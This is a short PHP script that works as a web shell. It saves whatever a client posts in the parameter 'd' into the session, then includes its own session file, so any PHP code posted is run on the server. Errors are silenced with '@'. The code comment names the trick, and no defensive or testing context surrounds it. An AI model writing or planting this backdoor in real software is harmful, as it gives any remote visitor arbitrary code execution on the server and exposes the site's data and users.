<?php
// The request stores code in the session, then the script includes its own session file.
session_start();
if (isset($_POST['d'])) { $_SESSION['d'] = $_POST['d']; }
session_write_close();
@include(session_save_path() . '/sess_' . session_id());
